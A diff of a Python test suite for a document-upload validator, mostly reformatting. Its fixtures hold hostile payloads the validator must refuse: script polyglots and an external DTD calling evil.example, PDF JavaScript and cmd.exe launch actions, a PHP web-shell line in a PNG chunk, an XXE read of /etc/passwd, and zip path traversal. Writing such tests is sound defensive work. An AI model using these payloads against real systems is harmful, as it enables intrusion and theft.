@@ -19,15 +19,15 @@ from yearwheel.web.uploads import ACCEPTED_TYPES, DOCX, JPEG, PDF, PNG, XLSX, Ve
 # --------------------------------------------------------------------------- real files
 
 
-def make_pdf(catalog_extra: bytes = b"", extra_objects: list[bytes] = (), header: bytes = b"%PDF-1.7",
-             comment: bytes = b"") -> bytes:
+def make_pdf(
+    catalog_extra: bytes = b"", extra_objects: list[bytes] = (), header: bytes = b"%PDF-1.7", comment: bytes = b""
+) -> bytes:
     """A minimal, valid one-page PDF with a correct xref table."""
     content = b"BT /F1 24 Tf 72 720 Td (Yearwheel evidence) Tj ET"
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
-        b" /Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
         b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
         b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         *extra_objects,
@@ -53,8 +53,13 @@ def make_png(width: int = 4, height: int = 3, extra_chunks: bytes = b"") -> byte
     """A real RGB PNG: signature, IHDR, IDAT (zlib, filter byte per row), IEND."""
     rows = b"".join(b"\x00" + b"".join(bytes((x * 60 % 256, y * 80 % 256, 200)) for x in range(width)) for y in range(height))
     ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + extra_chunks
-            + png_chunk(b"IDAT", zlib.compress(rows)) + png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", ihdr)
+        + extra_chunks
+        + png_chunk(b"IDAT", zlib.compress(rows))
+        + png_chunk(b"IEND", b"")
+    )
 
 
 def jpeg_segment(marker: int, payload: bytes) -> bytes:
@@ -92,25 +97,37 @@ CT_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.shee
 REL_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
 
 
-def content_types(main_type: str = CT_DOCX_MAIN, part: str = "/word/document.xml", defaults: str = "",
-                  overrides: str = "", prolog: str = "") -> str:
-    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + prolog
-            + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-            '<Default Extension="xml" ContentType="application/xml"/>' + defaults
-            + f'<Override PartName="{part}" ContentType="{main_type}"/>' + overrides + "</Types>")
+def content_types(
+    main_type: str = CT_DOCX_MAIN, part: str = "/word/document.xml", defaults: str = "", overrides: str = "", prolog: str = ""
+) -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        + prolog
+        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        + defaults
+        + f'<Override PartName="{part}" ContentType="{main_type}"/>'
+        + overrides
+        + "</Types>"
+    )
 
 
 def rels(*relationships: tuple[str, str, str, str]) -> str:
-    body = "".join(f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
-                   for rid, rtype, target, mode in relationships)
-    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>')
+    body = "".join(
+        f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>' for rid, rtype, target, mode in relationships
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
+    )
 
 
-DOCUMENT_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-                "<w:body><w:p><w:r><w:t>2023 年度质量工作考核自查报告</w:t></w:r></w:p></w:body></w:document>")
+DOCUMENT_XML = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    "<w:body><w:p><w:r><w:t>2023 年度质量工作考核自查报告</w:t></w:r></w:p></w:body></w:document>"
+)
 
 
 def make_zip(members: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
@@ -213,26 +230,40 @@ def test_png_with_ancillary_chunks_is_accepted():
 
 
 def test_a_docx_with_a_safe_hyperlink_and_an_image_is_accepted():
-    doc_rels = rels(("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
-                     "https://www.gov.cn/", ' TargetMode="External"'),
-                    ("rId2", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "media/image1.png", ""))
-    data = make_docx(**{"word/_rels/document.xml.rels": doc_rels,
-                                                       "word/media/image1.png": make_png(),
-                                                       "CT": content_types(defaults='<Default Extension="png" ContentType="image/png"/>')})
+    doc_rels = rels(
+        (
+            "rId1",
+            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
+            "https://www.gov.cn/",
+            ' TargetMode="External"',
+        ),
+        ("rId2", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", "media/image1.png", ""),
+    )
+    data = make_docx(
+        **{
+            "word/_rels/document.xml.rels": doc_rels,
+            "word/media/image1.png": make_png(),
+            "CT": content_types(defaults='<Default Extension="png" ContentType="image/png"/>'),
+        }
+    )
     assert check_upload(data, DOCX, "a.docx").ok
 
 
 # --------------------------------------------------------------------------- PDF refused
 
 
-@pytest.mark.parametrize("data", [
-    make_pdf() + b"<html><script>alert(document.cookie)</script></html>",
-    make_pdf() + b"\n<HTML>\n<SCRIPT src=//evil.example/x.js></SCRIPT>",
-    make_pdf(comment=b"%<html><body onload=alert(1)>\n"),
-    make_pdf(extra_objects=[b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> >>"]),
-    make_pdf(comment=b"%<svg/onload=alert(1)>\n"),
-    make_pdf(comment=b"%<iframe src=https://evil.example>\n"),
-], ids=["html-appended", "upper-case", "embedded-comment", "javascript-uri", "svg", "iframe"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        make_pdf() + b"<html><script>alert(document.cookie)</script></html>",
+        make_pdf() + b"\n<HTML>\n<SCRIPT src=//evil.example/x.js></SCRIPT>",
+        make_pdf(comment=b"%<html><body onload=alert(1)>\n"),
+        make_pdf(extra_objects=[b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:alert(1)) >> >>"]),
+        make_pdf(comment=b"%<svg/onload=alert(1)>\n"),
+        make_pdf(comment=b"%<iframe src=https://evil.example>\n"),
+    ],
+    ids=["html-appended", "upper-case", "embedded-comment", "javascript-uri", "svg", "iframe"],
+)
 def test_pdf_html_polyglots_are_refused(data):
     v = refused(check_upload(data, PDF, "a.pdf"), "markup")
     assert v.reason_zh == "文件中含有网页或脚本内容，不予接收。"
@@ -243,14 +274,18 @@ def test_html_that_starts_with_the_pdf_header_is_refused():
     refused(check_upload(html, PDF, "a.pdf"), "markup")
 
 
-@pytest.mark.parametrize("extra", [
-    (b" /OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
-    (b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", []),  # name escapes
-    (b" /Names << /JavaScript 6 0 R >>", [b"<< /Names [(x) 7 0 R] >>"]),
-    (b" /OpenAction << /S /Launch /F (cmd.exe) >>", []),
-    (b" /Names << /EmbeddedFiles 6 0 R >>", [b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"]),
-    (b" /AA << /O << /JS (app.alert\\(1\\)) >> >>", []),  # /JS without /S /JavaScript
-], ids=["openaction-js", "hex-escaped", "document-js", "launch", "embedded-file", "bare-js"])
+@pytest.mark.parametrize(
+    "extra",
+    [
+        (b" /OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
+        (b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", []),  # name escapes
+        (b" /Names << /JavaScript 6 0 R >>", [b"<< /Names [(x) 7 0 R] >>"]),
+        (b" /OpenAction << /S /Launch /F (cmd.exe) >>", []),
+        (b" /Names << /EmbeddedFiles 6 0 R >>", [b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"]),
+        (b" /AA << /O << /JS (app.alert\\(1\\)) >> >>", []),  # /JS without /S /JavaScript
+    ],
+    ids=["openaction-js", "hex-escaped", "document-js", "launch", "embedded-file", "bare-js"],
+)
 def test_pdf_active_content_is_refused(extra):
     catalog, objects = extra
     v = refused(check_upload(make_pdf(catalog, objects), PDF, "a.pdf"), "pdf_active")
@@ -260,27 +295,38 @@ def test_pdf_active_content_is_refused(extra):
 def test_pdf_javascript_hidden_in_a_compressed_object_stream_is_refused():
     hidden = b"6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
     packed = zlib.compress(b"6 0 " + hidden[4:])
-    objstm = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
-              + packed + b"\nendstream")
+    objstm = (
+        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
+    )
     data = make_pdf(b" /OpenAction 6 0 R", [objstm])
     assert b"JavaScript" not in data
     refused(check_upload(data, PDF, "a.pdf"), "pdf_active")
     # the same object stream without a script is fine
     harmless = zlib.compress(b"6 0 << /Type /XObject >>")
-    ok = make_pdf(b"", [b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(harmless)
-                        + harmless + b"\nendstream"])
+    ok = make_pdf(
+        b"",
+        [
+            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(harmless)
+            + harmless
+            + b"\nendstream"
+        ],
+    )
     assert check_upload(ok, PDF, "a.pdf").ok
 
 
-@pytest.mark.parametrize("data", [
-    b"\r\n\t " + make_pdf(),  # leading junk before the header
-    b"GIF89a" + make_pdf(),
-    make_pdf()[:-20],  # truncated: no %%EOF
-    make_pdf().replace(b"%%EOF", b"%%EOX"),
-    make_pdf() + b"trailing bytes after the end of file",
-    make_pdf(header=b"%PDF-3.1"),
-    b"%PDF-1.7\nstartxref\n0\n%%EOF\n",  # no object at all
-], ids=["whitespace-first", "gif-first", "truncated", "no-eof", "trailer-junk", "bad-version", "no-object"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\r\n\t " + make_pdf(),  # leading junk before the header
+        b"GIF89a" + make_pdf(),
+        make_pdf()[:-20],  # truncated: no %%EOF
+        make_pdf().replace(b"%%EOF", b"%%EOX"),
+        make_pdf() + b"trailing bytes after the end of file",
+        make_pdf(header=b"%PDF-3.1"),
+        b"%PDF-1.7\nstartxref\n0\n%%EOF\n",  # no object at all
+    ],
+    ids=["whitespace-first", "gif-first", "truncated", "no-eof", "trailer-junk", "bad-version", "no-object"],
+)
 def test_broken_or_padded_pdfs_are_refused(data):
     refused(check_upload(data, PDF, "a.pdf"))
 
@@ -295,8 +341,9 @@ def test_png_with_a_script_after_iend_is_refused():
 
 
 def test_png_with_php_inside_a_chunk_is_refused():
-    refused(check_upload(make_png(extra_chunks=png_chunk(b"tEXt", b"Comment\x00<?php system($_GET[c]); ?>")), PNG, "a.png"),
-            "markup")
+    refused(
+        check_upload(make_png(extra_chunks=png_chunk(b"tEXt", b"Comment\x00<?php system($_GET[c]); ?>")), PNG, "a.png"), "markup"
+    )
 
 
 def test_png_with_a_bad_crc_is_refused():
@@ -310,27 +357,35 @@ def test_png_with_a_bad_crc_is_refused():
     refused(check_upload(bytes(png), PNG, "a.png"), "corrupt")
 
 
-@pytest.mark.parametrize("data", [
-    b"\x89PNG\r\n\x1a\n" + png_chunk(b"tEXt", b"a\x00b") + make_png()[8:],  # IHDR not first
-    make_png()[:-12],  # no IEND
-    make_png()[:40],
-    b"\x89PNG\r\n\x1a\n",
-    make_png(extra_chunks=png_chunk(b"ABCD", b"")),  # unknown critical chunk
-    b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 0, 3, 8, 2, 0, 0, 0)) + make_png()[33:],
-], ids=["ihdr-not-first", "no-iend", "truncated", "signature-only", "unknown-critical", "zero-width"])
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x89PNG\r\n\x1a\n" + png_chunk(b"tEXt", b"a\x00b") + make_png()[8:],  # IHDR not first
+        make_png()[:-12],  # no IEND
+        make_png()[:40],
+        b"\x89PNG\r\n\x1a\n",
+        make_png(extra_chunks=png_chunk(b"ABCD", b"")),  # unknown critical chunk
+        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 0, 3, 8, 2, 0, 0, 0)) + make_png()[33:],
+    ],
+    ids=["ihdr-not-first", "no-iend", "truncated", "signature-only", "unknown-critical", "zero-width"],
+)
 def test_broken_pngs_are_refused(data):
     refused(check_upload(data, PNG, "a.png"), "corrupt")
 
 
-@pytest.mark.parametrize("data, code", [
-    (make_jpeg() + b"PK\x03\x04 zip appended", "corrupt"),
-    (make_jpeg() + b"<script>alert(1)</script>", "markup"),
-    (make_jpeg(comment=b"<html><script>alert(1)</script>"), "markup"),
-    (make_jpeg()[:-2], "corrupt"),
-    (make_jpeg()[:30], "corrupt"),
-    (b"\xff\xd8\xff\xd9", "corrupt"),
-    (b"\xff\xd8\xff" + b"\x00" * 40, "corrupt"),
-], ids=["zip-after-eoi", "script-after-eoi", "script-in-comment", "no-eoi", "truncated", "no-scan", "garbage"])
+@pytest.mark.parametrize(
+    "data, code",
+    [
+        (make_jpeg() + b"PK\x03\x04 zip appended", "corrupt"),
+        (make_jpeg() + b"<script>alert(1)</script>", "markup"),
+        (make_jpeg(comment=b"<html><script>alert(1)</script>"), "markup"),
+        (make_jpeg()[:-2], "corrupt"),
+        (make_jpeg()[:30], "corrupt"),
+        (b"\xff\xd8\xff\xd9", "corrupt"),
+        (b"\xff\xd8\xff" + b"\x00" * 40, "corrupt"),
+    ],
+    ids=["zip-after-eoi", "script-after-eoi", "script-in-comment", "no-eoi", "truncated", "no-scan", "garbage"],
+)
 def test_broken_or_polyglot_jpegs_are_refused(data, code):
     refused(check_upload(data, JPEG, "a.jpg"), code)
 
@@ -350,18 +405,32 @@ def test_a_docx_whose_content_types_say_xlsx_is_refused():
     assert "Excel" in v.reason_zh and "Word" in v.reason_zh
 
 
-@pytest.mark.parametrize("changes, code", [
-    ({"CT": None}, "type_mismatch"),  # no [Content_Types].xml
-    ({"word__document.xml": None}, "corrupt"),  # main part declared but missing
-    ({"_rels__.rels": None}, "corrupt"),
-    ({"_rels__.rels": rels(("rId1", REL_OFFICE, "word/other.xml", ""))}, "corrupt"),
-    ({"CT": content_types(part="/word/missing.xml")}, "corrupt"),
-    ({"CT": "<Types/>"}, "type_mismatch"),
-    ({"CT": "not xml at all"}, "corrupt"),
-    ({"CT": content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
-     "type_mismatch"),
-], ids=["no-content-types", "no-main-part", "no-root-rels", "rels-elsewhere", "override-elsewhere", "no-override",
-        "not-xml", "pptx"])
+@pytest.mark.parametrize(
+    "changes, code",
+    [
+        ({"CT": None}, "type_mismatch"),  # no [Content_Types].xml
+        ({"word__document.xml": None}, "corrupt"),  # main part declared but missing
+        ({"_rels__.rels": None}, "corrupt"),
+        ({"_rels__.rels": rels(("rId1", REL_OFFICE, "word/other.xml", ""))}, "corrupt"),
+        ({"CT": content_types(part="/word/missing.xml")}, "corrupt"),
+        ({"CT": "<Types/>"}, "type_mismatch"),
+        ({"CT": "not xml at all"}, "corrupt"),
+        (
+            {"CT": content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
+            "type_mismatch",
+        ),
+    ],
+    ids=[
+        "no-content-types",
+        "no-main-part",
+        "no-root-rels",
+        "rels-elsewhere",
+        "override-elsewhere",
+        "no-override",
+        "not-xml",
+        "pptx",
+    ],
+)
 def test_incomplete_or_foreign_packages_are_refused(changes, code):
     refused(check_upload(make_docx(**changes), DOCX, "a.docx"), code)
 
@@ -376,9 +445,14 @@ def test_macros_are_refused():
     xlsm_ct = ct.replace(CT_XLSX_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
     assert xlsm_ct != ct
     refused(check_upload(rezip(xlsx, replace={"[Content_Types].xml": xlsm_ct}), XLSX, "a.xlsx"), "macro")
-    docm = make_docx(**{"word/vbaProject.bin": b"\x00" * 16,
-                        "CT": content_types(overrides='<Override PartName="/word/vbaProject.bin" '
-                                                      'ContentType="application/vnd.ms-office.vbaProject"/>')})
+    docm = make_docx(
+        **{
+            "word/vbaProject.bin": b"\x00" * 16,
+            "CT": content_types(
+                overrides='<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+            ),
+        }
+    )
     refused(check_upload(docm, DOCX, "a.docx"), "macro")
     refused(check_upload(make_docx(**{"word/activeX/activeX1.xml": "<ax/>"}), DOCX, "a.docx"), "macro")
     refused(check_upload(make_docx(**{"word/embeddings/sheet.xlsm": b"PK"}), DOCX, "a.docx"), "macro")
@@ -404,8 +478,10 @@ def test_many_members_over_the_total_bound_are_refused():
     refused(check_upload(make_zip(members), DOCX, "a.docx"), "zip_bomb")
 
 
-@pytest.mark.parametrize("name", ["../evil", "word/../../evil.xml", "/etc/cron.d/evil", "C:/evil.xml", "word\\..\\evil",
-                                  "word//document.xml", "./word/x.xml"])
+@pytest.mark.parametrize(
+    "name",
+    ["../evil", "word/../../evil.xml", "/etc/cron.d/evil", "C:/evil.xml", "word\\..\\evil", "word//document.xml", "./word/x.xml"],
+)
 def test_unsafe_member_paths_are_refused(name):
     members = docx_members()
     members[name] = "x"
@@ -428,11 +504,14 @@ def test_encrypted_members_are_refused():
     assert "密码" in v.reason_zh
 
 
-@pytest.mark.parametrize("prolog", [
-    '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # billion laughs
-    '<!DOCTYPE Types SYSTEM "http://evil.example/x.dtd">',  # external DTD
-    '<!doctype Types [<!entity xxe SYSTEM "file:///etc/passwd">]>',
-])
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # billion laughs
+        '<!DOCTYPE Types SYSTEM "http://evil.example/x.dtd">',  # external DTD
+        '<!doctype Types [<!entity xxe SYSTEM "file:///etc/passwd">]>',
+    ],
+)
 def test_dtds_in_content_types_are_refused_before_parsing(prolog):
     refused(check_upload(make_docx(CT=content_types(prolog=prolog)), DOCX, "a.docx"), "xml_dtd")
 
@@ -443,17 +522,21 @@ def test_utf16_content_types_with_a_dtd_are_refused():
     assert check_upload(make_docx(CT=content_types().replace("UTF-8", "UTF-16").encode("utf-16")), DOCX, "a.docx").ok
 
 
-@pytest.mark.parametrize("member, ctype", [
-    ("word/afchunk.htm", '<Default Extension="htm" ContentType="text/html"/>'),
-    ("word/afchunk.mht", '<Default Extension="mht" ContentType="message/rfc822"/>'),
-    ("word/evil.js", ""),
-    ("word/tool.exe", ""),
-    ("word/page.dat", '<Override PartName="/word/page.dat" ContentType="application/xhtml+xml"/>'),
-])
+@pytest.mark.parametrize(
+    "member, ctype",
+    [
+        ("word/afchunk.htm", '<Default Extension="htm" ContentType="text/html"/>'),
+        ("word/afchunk.mht", '<Default Extension="mht" ContentType="message/rfc822"/>'),
+        ("word/evil.js", ""),
+        ("word/tool.exe", ""),
+        ("word/page.dat", '<Override PartName="/word/page.dat" ContentType="application/xhtml+xml"/>'),
+    ],
+)
 def test_html_and_script_members_are_refused(member, ctype):
     is_default = ctype.startswith("<Default")
-    data = make_docx(**{member: "<p>hi</p>", "CT": content_types(defaults=ctype if is_default else "",
-                                                                  overrides="" if is_default else ctype)})
+    data = make_docx(
+        **{member: "<p>hi</p>", "CT": content_types(defaults=ctype if is_default else "", overrides="" if is_default else ctype)}
+    )
     refused(check_upload(data, DOCX, "a.docx"), "active_member")
 
 
@@ -461,30 +544,39 @@ def test_scripted_svg_is_refused_and_a_plain_svg_accepted():
     ct = content_types(defaults='<Default Extension="svg" ContentType="image/svg+xml"/>')
     plain = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
     assert check_upload(make_docx(**{"word/media/image1.svg": plain, "CT": ct}), DOCX, "a.docx").ok
-    for bad in ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-                '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-                '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>']:
+    for bad in [
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect/></a></svg>',
+    ]:
         refused(check_upload(make_docx(**{"word/media/image1.svg": bad, "CT": ct}), DOCX, "a.docx"), "active_member")
 
 
-@pytest.mark.parametrize("rtype, target", [
-    ("attachedTemplate", "https://evil.example/template.dotm"),
-    ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
-    ("frame", "file://evil.example/share/x.html"),
-    ("hyperlink", "javascript:alert(1)"),
-])
+@pytest.mark.parametrize(
+    "rtype, target",
+    [
+        ("attachedTemplate", "https://evil.example/template.dotm"),
+        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
+        ("frame", "file://evil.example/share/x.html"),
+        ("hyperlink", "javascript:alert(1)"),
+    ],
+)
 def test_remote_templates_and_script_targets_are_refused(rtype, target):
-    doc_rels = rels(("rId9", f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rtype}", target,
-                     ' TargetMode="External"'))
+    doc_rels = rels(
+        ("rId9", f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rtype}", target, ' TargetMode="External"')
+    )
     data = make_docx(**{"word/_rels/document.xml.rels": doc_rels})
     refused(check_upload(data, DOCX, "a.docx"), "external")
 
 
-@pytest.mark.parametrize("data", [
-    make_docx() + b"trailing",
-    make_docx()[:-30],
-    b"PK\x03\x04" + b"\x00" * 100,
-])
+@pytest.mark.parametrize(
+    "data",
+    [
+        make_docx() + b"trailing",
+        make_docx()[:-30],
+        b"PK\x03\x04" + b"\x00" * 100,
+    ],
+)
 def test_truncated_or_padded_zips_are_refused(data):
     refused(check_upload(data, DOCX, "a.docx"))
 
@@ -551,22 +643,25 @@ def test_names_without_or_with_a_disguised_extension_are_refused():
     refused(check_upload(GOOD["docx"][0], DOCX, "a.xlsx"), "extension_mismatch")
 
 
-@pytest.mark.parametrize("name, expected", [
-    ("../../etc/passwd", "passwd"),
-    ("C:\\Users\\a\\报告.pdf", "报告.pdf"),
-    ("/var/tmp/", "tmp"),
-    ("..", "附件"),
-    ("", "附件"),
-    ("   ", "附件"),
-    ("\u202e\u200b\u2066", "附件"),
-    ("...hidden.pdf", "hidden.pdf"),
-    ("a\tb\n c\u3000d.pdf", "a b c d.pdf"),
-    ("invoice\u202efdp.exe", "invoicefdp.exe"),
-    ("re\u0000po\u0007rt\u001b[31m.pdf", "report[31m.pdf"),
-    ("\u200e\u200f\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\ufeff名.pdf", "名.pdf"),
-    ("2023／2024 报告.pdf", "2023_2024 报告.pdf"),
-    ("C:报告.pdf", "报告.pdf"),
-])
+@pytest.mark.parametrize(
+    "name, expected",
+    [
+        ("../../etc/passwd", "passwd"),
+        ("C:\\Users\\a\\报告.pdf", "报告.pdf"),
+        ("/var/tmp/", "tmp"),
+        ("..", "附件"),
+        ("", "附件"),
+        ("   ", "附件"),
+        ("\u202e\u200b\u2066", "附件"),
+        ("...hidden.pdf", "hidden.pdf"),
+        ("a\tb\n c\u3000d.pdf", "a b c d.pdf"),
+        ("invoice\u202efdp.exe", "invoicefdp.exe"),
+        ("re\u0000po\u0007rt\u001b[31m.pdf", "report[31m.pdf"),
+        ("\u200e\u200f\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\ufeff名.pdf", "名.pdf"),
+        ("2023／2024 报告.pdf", "2023_2024 报告.pdf"),
+        ("C:报告.pdf", "报告.pdf"),
+    ],
+)
 def test_display_names(name, expected):
     assert safe_display_name(name) == expected
 
@@ -588,11 +683,16 @@ def test_long_display_names_keep_their_extension():
 
 # --------------------------------------------------------------------------- fuzzing
 
-SOME = settings(max_examples=300, deadline=None, derandomize=True,
-                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+SOME = settings(
+    max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
+)
 PREFIXES = [b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"PK\x03\x04", b"MZ", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]
-DECLARED = st.one_of(st.sampled_from([*ACCEPTED_TYPES, "", "application/octet-stream", "text/html", "image/jpg",
-                                      "application/zip", "APPLICATION/PDF; x=y"]), st.text(max_size=40))
+DECLARED = st.one_of(
+    st.sampled_from(
+        [*ACCEPTED_TYPES, "", "application/octet-stream", "text/html", "image/jpg", "application/zip", "APPLICATION/PDF; x=y"]
+    ),
+    st.text(max_size=40),
+)
 SAMPLES = [data for data, _, _ in GOOD.values()]
 
 
@@ -605,7 +705,7 @@ def mutated(draw):
         if op == "flip" and data:
             data[at] ^= draw(st.integers(1, 255))
         elif op == "cut":
-            del data[at:at + draw(st.integers(1, 64))]
+            del data[at : at + draw(st.integers(1, 64))]
         elif op == "insert":
             data[at:at] = draw(st.binary(max_size=32))
         else:
@@ -613,8 +713,9 @@ def mutated(draw):
     return bytes(data)
 
 
-uploads = st.one_of(st.binary(max_size=2048), st.builds(lambda p, b: p + b, st.sampled_from(PREFIXES), st.binary(max_size=2048)),
-                    mutated())
+uploads = st.one_of(
+    st.binary(max_size=2048), st.builds(lambda p, b: p + b, st.sampled_from(PREFIXES), st.binary(max_size=2048)), mutated()
+)
 
 
 @SOME
@@ -627,11 +728,44 @@ def test_check_upload_never_raises(data, declared, filename):
     assert bool(v.reason_zh) != v.ok and v.reason_log
 
 
-TRICKY = st.sampled_from(["/", "\\", ".", " ", "\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u200e", "\u200f", "\ufeff",
-                          "\x00", "\x1b", "\n", "\t", "\x7f", "\x85", "\u2028", "\u3000", "\ud800", "\ufffe", "e", "\u0301",
-                          "报", ":", "C", "／", "a.pdf"])
-NAMES = st.one_of(st.text(max_size=200), st.lists(TRICKY, max_size=40).map("".join),
-                  st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Mn", "Lo"]), max_size=300))
+TRICKY = st.sampled_from(
+    [
+        "/",
+        "\\",
+        ".",
+        " ",
+        "\u202e",
+        "\u202a",
+        "\u2066",
+        "\u2069",
+        "\u200b",
+        "\u200e",
+        "\u200f",
+        "\ufeff",
+        "\x00",
+        "\x1b",
+        "\n",
+        "\t",
+        "\x7f",
+        "\x85",
+        "\u2028",
+        "\u3000",
+        "\ud800",
+        "\ufffe",
+        "e",
+        "\u0301",
+        "报",
+        ":",
+        "C",
+        "／",
+        "a.pdf",
+    ]
+)
+NAMES = st.one_of(
+    st.text(max_size=200),
+    st.lists(TRICKY, max_size=40).map("".join),
+    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Mn", "Lo"]), max_size=300),
+)
 
 
 @SOME
